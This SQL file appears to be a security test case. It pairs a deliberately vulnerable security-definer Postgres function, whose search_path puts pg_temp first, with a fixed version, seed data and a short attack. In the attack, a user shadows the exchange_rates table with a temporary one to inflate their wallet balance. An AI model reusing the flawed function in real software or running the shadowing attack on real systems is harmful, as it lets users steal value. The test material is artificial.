-- The path of the function looks among temporary tables first.
-- === common
create table public.exchange_rates (currency char(3) primary key, rate numeric not null check (rate > 0));
create table public.wallets (owner uuid primary key references auth.users (id), gold numeric not null default 0);
alter table public.exchange_rates enable row level security;
alter table public.wallets enable row level security;
create policy w on public.wallets for select to authenticated using (owner = auth.uid());
-- === vulnerable
create function public.convert(p_currency char, p_amount numeric) returns numeric language plpgsql security definer set search_path to 'pg_temp', 'public' as $$
declare g numeric;
begin
  select p_amount * e.rate into g from exchange_rates e where e.currency = p_currency;
  update wallets set gold = gold + g where owner = auth.uid();
  return g;
end $$;
-- === fixed
create function public.convert(p_currency char, p_amount numeric) returns numeric language plpgsql security definer set search_path to 'public', 'pg_temp' as $$
declare g numeric;
begin
  if auth.uid() is null then raise exception 'sign in'; end if;
  select p_amount * e.rate into g from exchange_rates e where e.currency = p_currency;
  update wallets set gold = gold + g where owner = auth.uid();
  return g;
end $$;
-- === world
insert into auth.users (id, email) values ('a1a1a1a1-0000-4000-8000-00000000000a', 'ada@mint2.test'), ('b2b2b2b2-0000-4000-8000-00000000000b', 'ben@mint2.test'), ('c3c3c3c3-0000-4000-8000-00000000000c', 'cy@mint2.test');
insert into public.exchange_rates values ('EUR', 0.01);
insert into public.wallets values ('b2b2b2b2-0000-4000-8000-00000000000b', 0);
-- === attack as b2b2b2b2-0000-4000-8000-00000000000b
create temporary table exchange_rates (currency char(3), rate numeric);
grant select on exchange_rates to public;
insert into exchange_rates values ('EUR', 1000000);
select public.convert('EUR', 1);
select * from public.wallets where gold > 1000;
-- === use as b2b2b2b2-0000-4000-8000-00000000000b
select public.convert('EUR', 1);
